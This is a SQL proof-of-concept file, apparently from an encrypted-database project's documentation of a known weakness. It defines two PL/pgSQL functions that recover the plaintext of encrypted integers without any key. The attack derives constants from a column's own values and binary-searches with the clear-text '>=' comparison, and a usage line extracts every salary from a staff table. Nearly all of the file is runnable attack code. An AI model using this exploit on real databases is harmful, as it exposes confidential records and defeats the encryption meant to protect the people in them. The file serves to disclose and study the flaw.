-- SPDX-License-Identifier: BSD-3-Clause
--
-- smuggle.sql - the smuggle attack on encrypted integers (HEDB's documentation knows it; see
-- docs/security.md). Who runs it needs SELECT and the operators, and no key: the value of a
-- column makes its own constants, and `>=` answers in clear.
--
--     SELECT id, smuggled(salary, salary) FROM staff;

-- a / a is 1, a - a is 0, and sums of 1 are every other number.
CREATE FUNCTION smuggled_constants(a enc_int4) RETURNS enc_int4[] LANGUAGE plpgsql AS $$
DECLARE
	power enc_int4[] := ARRAY[a / a];
BEGIN
	FOR bit IN 2..31 LOOP
		power := power || (power[bit - 1] + power[bit - 1]);
	END LOOP;
	RETURN power;
END $$;

-- The number in `secret`, 31 comparisons; `seed` is any value that is not 0.
CREATE FUNCTION smuggled(secret enc_int4, seed enc_int4) RETURNS int LANGUAGE plpgsql AS $$
DECLARE
	power enc_int4[] := smuggled_constants(seed);
	low enc_int4 := seed - seed;
	found int := 0;
BEGIN
	FOR bit IN REVERSE 31..1 LOOP
		IF secret - low >= power[bit] THEN
			low := low + power[bit];
			found := found + (1 << (bit - 1));
		END IF;
	END LOOP;
	RETURN found;
END $$;
